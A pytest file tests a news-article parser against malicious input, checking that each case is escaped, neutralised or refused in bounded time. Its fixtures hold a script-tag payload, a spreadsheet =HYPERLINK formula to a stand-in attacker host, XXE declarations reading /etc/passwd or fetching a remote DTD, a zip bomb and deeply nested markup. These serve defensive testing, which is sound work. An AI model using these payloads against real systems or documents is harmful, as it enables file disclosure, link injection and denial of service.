"""Other people's files: what is made to hurt is read as the text it is, or refused, in bounded time."""

import contextlib
import csv
import io
import json
import time
import zipfile
from pathlib import Path

import pytest

from discrepancy import ReadError
from discrepancy.model import Mention, Report, Sentence, Value
from discrepancy.read import read_bytes
from discrepancy.read.draft import LONGEST_TITLE
from discrepancy.read.page import MOST_HTML
from discrepancy.report import FORMATS, Display, Listing

WIRE = Path(__file__).resolve().parents[2] / "fixtures" / "wire"
LONG = "Bridge " * 14_286  # 100,002 characters
SCRIPT = "<script>alert(40)</script>"
BODY = (
    "The bridge at Orrin closed at dawn on Tuesday after engineers found a crack 40 centimetres long in it."
)


def read(data, name="story.dat"):
    return read_bytes(data.encode() if isinstance(data, str) else data, id="story", name=name)


def as_html(title, body):
    head = f"<head><title>{title}</title></head>"
    return f"<!doctype html><html>{head}<body><h1>{title}</h1><p>{body}</p></body></html>"


def as_nitf(title, body):
    return (
        f"<nitf><body><body.head><hedline><hl1>{title}</hl1></hedline></body.head>"
        f"<body.content><p>{body}</p></body.content></body></nitf>"
    )


def as_newsml(title, body):
    return (
        '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"><contentMeta>'
        f"<headline>{title}</headline></contentMeta><contentSet><inlineXML><html><body><p>{body}</p></body></html>"
        "</inlineXML></contentSet></newsItem>"
    )


def as_rss(title, body):
    return (
        f'<rss version="2.0"><channel><item><title><![CDATA[{title}]]></title>'
        f"<description><![CDATA[{body}]]></description></item></channel></rss>"
    )


def as_ninjs(title, body):
    return json.dumps({"uri": "u", "headline": title, "body_html": f"<p>{body}</p>"})


FORMS = (as_html, as_nitf, as_newsml, as_rss, as_ninjs)


@pytest.mark.parametrize("form", FORMS)
def test_a_title_of_100000_characters_is_cut(form):
    article = read(form(LONG, BODY))
    assert len(article.title) == LONGEST_TITLE
    assert article.title.endswith("…")
    assert article.text == f"{article.title}\n\n{BODY}"


def test_a_title_of_100000_characters_in_plain_text_stays_text():
    article = read(f"{LONG}\n\n{BODY}\n")
    assert article.title is None  # no headline is so long
    assert article.text == f"{LONG}\n\n{BODY}\n"


@pytest.mark.parametrize("form", FORMS)
def test_scripts_in_headlines_and_quotes_are_no_text(form):
    article = read(form(f"Crack {SCRIPT}found", f"“We {SCRIPT}saw it,” she said. {BODY}"))
    assert "alert" not in article.text
    assert "alert" not in (article.title or "")
    assert "saw it,” she said" in article.text


def test_scripts_in_plain_text_are_text_and_run_nowhere():
    text = f"Crack {SCRIPT} found\n\n“We {SCRIPT} saw it,” she said. {BODY}\n"
    article = read(text)
    assert article.text == text
    page = FORMATS["html"].report(Report(article, article, (), ()), Display())
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in page


@pytest.mark.parametrize("form", FORMS)
def test_a_formula_is_a_sentence_until_a_spreadsheet_sees_it(form):
    sentence = (
        '=HYPERLINK("http://evil.example","40 people were hurt") said 40 people on the bridge at Orrin.'
    )
    article = read(form("Crack", sentence))
    assert sentence in article.text
    at = article.text.index(sentence)
    words = Sentence(at, at + len(sentence), sentence, 1)
    mention = Mention("count", "40", at, at + 2, Value(40, 40), words)
    table = FORMATS["csv"].listing(Listing(article, (mention,)), Display())
    assert [row["sentence"] for row in csv.DictReader(io.StringIO(table))] == [f"'{sentence}"]


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "ha">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
        "<!entity a 'ha'>",
    ],
)
@pytest.mark.parametrize("root", ["nitf", "newsItem", "rss", "feed", "invoice"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_wherever_they_stand(root, declared, encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE {root} [{declared}]><{root}>&a;</{root}>'
    with pytest.raises(ReadError, match="declares entities"):
        read(text.encode(encoding))


def test_an_outside_dtd_is_never_fetched(monkeypatch):
    monkeypatch.setattr("socket.socket", lambda *_: pytest.fail("connected"))
    document = f'<!DOCTYPE nitf SYSTEM "http://evil.example/nitf.dtd">{as_nitf("Crack", BODY)}'
    assert read(document).text == f"Crack\n\n{BODY}"


ENDLESS = {
    "div": "<div>" * 100_000 + BODY,
    "inline": "<html><body>" + "<p><b><i>" * 30_000 + BODY,
    "menu": "<html>" + "<li><a href=x>y</a>" * 50_000 + BODY,
    "nitf": "<nitf>" + "<block>" * 100_000,
    "json": '{"text":' * 100_000,
    "list": "[{" + '"a":[' * 100_000,
    "digits": '{"text": "The bridge closed.", "version": ' + "9" * 10_000 + "}",
    "body": json.dumps({"uri": "u", "body_html": "<div>" * 100_000 + BODY}),
    "rss": "<rss>" + "<item>" * 20_000,
    "less": "<" * 100_000,
    "comments": "<!--" * 50_000,
    "doctypes": "<?xml " + "<!DOCTYPE [" * 20_000,
    "slug": "BC-NL--" + "a " * 50_000,
    "fields": "A: b\n" * 50_000,
    "rules": "---\n" * 50_000,
}


@pytest.mark.parametrize("name", ENDLESS)
def test_depth_and_length_end_in_text_or_a_refusal_soon(name):
    began = time.monotonic()
    with contextlib.suppress(ReadError):
        assert read(ENDLESS[name]).text.strip()
    assert time.monotonic() - began < 20


@pytest.mark.parametrize("name", ["div", "inline", "menu", "body"])
def test_html_too_deep_or_too_full_says_so(name):
    with pytest.raises(ReadError, match=r"is HTML of [\d,]+ elements, [\d,]+ deep, more than any report has"):
        read(ENDLESS[name])


def test_a_page_too_large_to_search_is_refused():
    page = as_html("Crack", f"{BODY} " * (MOST_HTML // len(BODY)))
    with pytest.raises(ReadError, match="is a page of 5 MB"):
        read(page)


def test_a_very_large_page_is_read_in_seconds():
    page = as_html("Crack", "</p><p>".join(f"{number}. {BODY}" for number in range(6_000)))
    began = time.monotonic()
    assert BODY in read(page).text
    assert time.monotonic() - began < 30


def test_a_word_bomb_is_refused_before_it_is_unpacked():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 30_000_000)
    assert len(packed.getvalue()) < 100_000
    with pytest.raises(ReadError, match="unpacks to far more"):
        read(packed.getvalue())


def test_half_characters_become_the_mark_for_them():
    article = read(b'{"title": "Crack", "text": "The bridge \\ud83d closed.\\r\\nIt is shut."}')
    assert article.text == "The bridge \ufffd closed.\nIt is shut."
    article.text.encode()


def test_a_metadata_field_of_any_shape_is_read_or_passed_over():
    for value in (
        "[]",
        "{}",
        "null",
        "true",
        "1e999",
        '"\\u0000"',
        '[{"name": 3}]',
        '"9999999-99-99"',
        '"x\\ny"',
    ):
        for key in (
            "title",
            "published",
            "author",
            "version",
            "status",
            "url",
            "language",
            "slug",
            "embargo",
        ):
            article = read(f'{{"text": "{BODY}", "{key}": {value}}}')
            assert BODY in article.text
            item = read(f'{{"uri": "u", "pubstatus": "usable", "body_text": "{BODY}", "{key}": {value}}}')
            assert BODY in item.text
